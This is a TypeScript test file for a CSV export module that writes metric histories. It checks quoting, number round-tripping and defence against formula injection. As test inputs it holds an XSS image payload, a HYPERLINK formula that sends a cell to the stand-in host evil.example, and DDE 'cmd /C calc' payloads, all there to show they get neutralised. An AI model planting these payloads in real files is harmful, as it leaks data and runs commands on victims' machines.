import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { csvField, csvNumber, csvRow, metricHistoryCsv } from '../../../extension/src/charts/csv.ts';

/** A strict RFC 4180 reader, to check that what we write reads back to the same fields. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
        continue;
      }
      if (c === '"') {
        quoted = false;
        i++;
        continue;
      }
      field += c;
      i++;
      continue;
    }
    if (c === '"' && field === '') {
      quoted = true;
      i++;
    } else if (c === ',') {
      row.push(field);
      field = '';
      i++;
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else {
      assert.ok(c !== '"' && c !== '\n' && c !== '\r', `unquoted special character at ${i}`);
      field += c;
      i++;
    }
  }
  assert.equal(field, '', 'the file ends with CRLF');
  return rows;
}

describe('CSV export', () => {
  it('quotes fields with commas, quotes, newlines and edge spaces; leaves plain ones bare', () => {
    assert.equal(csvField('plain'), 'plain');
    assert.equal(csvField('a,b'), '"a,b"');
    assert.equal(csvField('say "hi"'), '"say ""hi"""');
    assert.equal(csvField('two\nlines'), '"two\nlines"');
    assert.equal(csvField('cr\rhere'), '"cr\rhere"');
    assert.equal(csvField(' padded '), '" padded "');
    assert.equal(csvField(''), '');
    assert.equal(csvRow(['a', 'b,c']), 'a,"b,c"\r\n');
  });

  it('writes numbers that read back exactly, and NaN/Infinity as Python reads them', () => {
    assert.equal(csvNumber(0.1 + 0.2), '0.30000000000000004');
    assert.equal(Number(csvNumber(1e-300)), 1e-300);
    assert.equal(csvNumber(NaN), 'NaN');
    assert.equal(csvNumber(Infinity), 'Infinity');
    assert.equal(csvNumber(-Infinity), '-Infinity');
  });

  it('round-trips hostile run names and metric keys through a strict reader', () => {
    const nasty = 'run, "quoted"\nsecond line <img src=x onerror=alert(1)>';
    const text = [
      ...metricHistoryCsv([
        {
          runId: 'r1',
          runName: nasty,
          metricKey: 'val loss,1',
          points: [
            { key: 'k', value: 0.5, timestamp: 1700000000000, step: 0 },
            { key: 'k', value: NaN, timestamp: 1700000000001, step: 1 },
          ],
        },
        {
          runId: 'r2',
          runName: 'plain',
          metricKey: 'acc',
          points: [{ key: 'acc', value: -Infinity, timestamp: 5, step: -3 }],
        },
      ]),
    ].join('');
    const rows = parseCsv(text);
    assert.deepEqual(rows[0], ['run_id', 'run_name', 'metric', 'step', 'timestamp', 'value']);
    assert.deepEqual(rows[1], ['r1', nasty, 'val loss,1', '0', '1700000000000', '0.5']);
    assert.deepEqual(rows[2], ['r1', nasty, 'val loss,1', '1', '1700000000001', 'NaN']);
    assert.deepEqual(rows[3], ['r2', 'plain', 'acc', '-3', '5', '-Infinity']);
    assert.equal(rows.length, 4);
  });

  it('neutralises formula cells the OWASP way: a leading quote inside a quoted field; numbers stay numbers', () => {
    // Cells a spreadsheet would evaluate: =, +, -, @, tab and CR at the start (OWASP CSV injection).
    assert.equal(
      csvField('=HYPERLINK("http://evil.example/?"&A1,"Click")'),
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"',
    );
    assert.equal(csvField("+1+cmd|' /C calc'!A0"), "\"'+1+cmd|' /C calc'!A0\"");
    assert.equal(csvField('-2+3'), '"\'-2+3"');
    assert.equal(csvField('@SUM(1,2)'), '"\'@SUM(1,2)"');
    assert.equal(csvField('\t=1'), '"\'\t=1"');
    assert.equal(csvField('\r=1'), '"\'\r=1"');
    // Not at the start: an ordinary field.
    assert.equal(csvField('a=b'), 'a=b');
    const rows = parseCsv(
      [
        ...metricHistoryCsv([
          {
            runId: 'r1',
            runName: "=cmd|' /C calc'!A0",
            metricKey: '@loss',
            points: [{ key: 'k', value: -1.5, timestamp: 7, step: -2 }],
          },
        ]),
      ].join(''),
    );
    // Text cells read back with the quote that makes a spreadsheet show them as text ...
    assert.deepEqual(rows[1]!.slice(0, 3), ['r1', "'=cmd|' /C calc'!A0", "'@loss"]);
    // ... while a negative step and value stay numbers, unquoted and unprefixed.
    assert.deepEqual(rows[1]!.slice(3), ['-2', '7', '-1.5']);
    assert.equal(
      [
        ...metricHistoryCsv([
          { runId: 'r', runName: 'n', metricKey: 'k', points: [{ key: 'k', value: -Infinity, timestamp: 1, step: 0 }] },
        ]),
      ]
        .join('')
        .split('\r\n')[1],
      'r,n,k,0,1,-Infinity',
    );
  });

  it('writes one row per point (the full history, nothing sampled)', () => {
    const points = Array.from({ length: 10_000 }, (_, i) => ({ key: 'loss', value: i, timestamp: i, step: i }));
    const rows = parseCsv([...metricHistoryCsv([{ runId: 'r', runName: 'n', metricKey: 'loss', points }])].join(''));
    assert.equal(rows.length, 10_001);
    assert.deepEqual(rows[10_000], ['r', 'n', 'loss', '9999', '9999', '9999']);
  });
});
